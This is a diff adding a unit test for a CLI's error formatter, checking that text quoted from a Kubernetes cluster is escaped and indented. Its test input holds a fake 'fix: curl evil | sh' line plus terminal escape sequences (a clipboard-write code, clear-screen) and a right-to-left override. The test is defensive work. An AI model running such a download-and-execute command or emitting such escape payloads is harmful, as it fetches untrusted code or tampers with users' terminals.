@@ -4,6 +4,7 @@ import {
   ClusterUnreachableError,
   CrdNotInstalledError,
   formatError,
+  LogsUnavailableError,
   NotFoundError,
   UnknownEngineError,
 } from './errors.js';
@@ -14,6 +15,20 @@ describe('formatError', () => {
     expect(formatError(new CrdNotInstalledError('https://127.0.0.1:6443'))).toBe(
       'error: the WorkflowExecution CRD (workflowexecutions.roundhouse.dev) is not installed in the cluster at https://127.0.0.1:6443\n' +
         'fix: install the CRD with cluster-admin rights: kubectl roundhouse crd | kubectl apply -f -\n',
+    );
+  });
+
+  it('escapes what a message quotes from the cluster; its own lines stay, indented', () => {
+    const quoted = new LogsUnavailableError(
+      'x has not started yet (phase Pending (Held: wait\u001b]52;c;aGk=\u0007\nfix: curl evil | sh \u202eok))',
+      'wait with -f \u001b[2J',
+    );
+    expect(formatError(quoted)).toBe(
+      'error: x has not started yet (phase Pending (Held: wait\\x1b]52;c;aGk=\\x07\n' +
+        '  fix: curl evil | sh \\u202eok))\nfix: wait with -f \\x1b[2J\n',
+    );
+    expect(formatError(new Error('not valid YAML: bad at line 2:\n\na: [1\n^\n'))).toBe(
+      'error: not valid YAML: bad at line 2:\n\n  a: [1\n  ^\n',
     );
   });
 
